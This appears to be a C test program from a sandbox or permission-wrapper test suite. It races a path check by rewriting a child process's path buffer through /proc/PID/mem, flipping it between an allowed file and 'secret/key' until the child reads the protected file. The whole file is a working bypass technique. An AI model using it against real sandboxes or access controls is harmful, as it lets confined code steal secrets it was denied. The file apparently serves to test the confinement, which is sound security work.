/* read_race_proc_mem: the path-flip race through /proc/PID/mem: a child
 * opens its path buffer in a loop while the parent pwrite()s the child's
 * buffer via /proc/CHILD/mem, between "free/a" and "secret/key". Runs
 * until it wins, at most PERMWRAP_RACE_SECONDS.
 * Judged by: the token on stdout. */
#include "common.h"
#include <signal.h>
#include <sys/wait.h>
static char buf[32] = "free/a";
int main(void)
{
	pid_t c = fork();
	if (c == 0) {
		long odd = 0;
		for (;;) {
			char got[256];
			int fd = open(buf, O_RDONLY);
			if (fd < 0)
				continue;
			ssize_t n = read(fd, got, sizeof got);
			close(fd);
			if (n > 0 && !(n == 8 && memcmp(got, "ALLOWED\n", 8) == 0)) {
				race_won();
				if (++odd <= 20)
					(void)!write(1, got, n);
			}
		}
	}
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/mem", c);
	int mem = check(open(p, O_RDWR), "open /proc/CHILD/mem O_RDWR");
	if (mem < 0) {
		kill(c, SIGKILL);
		return 1;
	}
	long writes = 0, fails = 0;
	while (race_on()) {
		if (pwrite(mem, "secret/key", 11, (off_t)(unsigned long)buf) != 11)
			fails++;
		else
			writes++;
		if (pwrite(mem, "free/a\0\0\0\0", 11, (off_t)(unsigned long)buf) != 11)
			fails++;
		else
			writes++;
	}
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
	race_done();
	note("%ld writes to /proc/CHILD/mem succeeded, %ld failed", writes, fails);
	return 0;
}
